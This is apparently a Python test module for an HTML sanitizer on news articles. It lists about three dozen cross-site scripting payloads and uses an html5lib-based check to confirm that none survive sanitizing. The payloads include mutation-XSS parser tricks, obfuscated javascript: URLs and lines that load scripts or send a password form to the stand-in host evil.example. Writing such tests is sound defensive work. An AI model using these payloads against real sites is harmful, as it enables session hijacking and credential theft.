"""Attacks through the HTML of news, and the judge of what is left of them: a real HTML5 parser."""

from collections.abc import Iterator
from xml.etree.ElementTree import Element

import html5lib

BASE = "https://news.example/section/article"
NEWS_TAGS = (
    "p br div span a img figure figcaption blockquote ul ol li dl dt dd h2 h3 h4 h5 h6 strong em b i u s sub sup small "
    "mark ins del table caption thead tbody tfoot tr th td colgroup pre code hr bdi q cite abbr time"
)
NEWS_ATTRIBUTES = "href src alt title dir lang width height colspan rowspan start datetime rel referrerpolicy"
ALLOWED = frozenset(NEWS_TAGS.split())
ALLOWED_ATTRIBUTES = frozenset(NEWS_ATTRIBUTES.split())

# Case 34 to 37 and 40: what must not survive, with the mutations that have passed other sanitizers.
ATTACKS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script>alert(1)</script></svg>",
    '<math><mtext><table><mglyph><style><img src="https://a.example/x" onerror="alert(1)">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src="https://a.example/x" onerror=alert(1)>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object><embed src=//evil.example/x.swf>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><input name=password><button>x</button></form>",
    "<style>@import '//evil.example/x.css'</style><link rel=stylesheet href=//evil.example/x.css>",
    "<img src=https://a.example/x onerror=alert(1) onloadstart=alert(1) srcset='javascript:alert(1) 2x'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='feed:javascript:alert(1)' xlink:href='javascript:alert(1)'>x</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<video poster=javascript:alert(1)><source onerror=alert(1)></video>",
    "<!--><img src=https://a.example/x onerror=alert(1)>-->",
    "<!--!><img src=https://a.example/x onerror=alert(1)>-->",
    '<noscript><p title="</noscript><img src=https://a.example/x onerror=alert(1)>">',
    "<xmp><p title='</xmp><img src=https://a.example/x onerror=alert(1)>'></xmp>",
    "<template><script>alert(1)</script></template>",
    '<p id=x class="overlay" style="position:fixed;inset:0">x</p>',
    '<svg></p><style><a id="</style><img src=https://a.example/x onerror=alert(1)>">',
    '<select><template><style><!--</style><a rel="--></style></select><img onerror=alert(1) src>">',
    "<plaintext><b>x",
    "<table><caption><svg><title><b onclick=x>",
    "<p>a</p dir=rtl onclick=x><bdo dir=rtl>moc.live</bdo>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><% x %><b/onclick=alert(1)>",
    "]]><script>alert(1)</script><!-- -- -->",
)


def elements(fragment: str) -> Iterator[Element]:
    """Every element that a browser would make of ``fragment``."""
    tree = html5lib.parseFragment(fragment, treebuilder="etree", namespaceHTMLElements=False)
    for element in tree.iter():
        if element is not tree:
            yield element


def assert_harmless(fragment: str) -> None:
    for element in elements(fragment):
        assert isinstance(element.tag, str), "a comment survived"
        assert element.tag in ALLOWED, element.tag
        for name, value in element.attrib.items():
            assert name in ALLOWED_ATTRIBUTES, name
            if name in ("href", "src"):
                schemes = ("http://", "https://", "mailto:") if name == "href" else ("http://", "https://")
                assert value.startswith(schemes), value
        if element.tag == "img":
            assert element.attrib["referrerpolicy"] == "no-referrer"
            assert element.attrib["src"]
        if element.tag == "a":
            assert element.attrib["rel"] == "noopener noreferrer nofollow ugc"
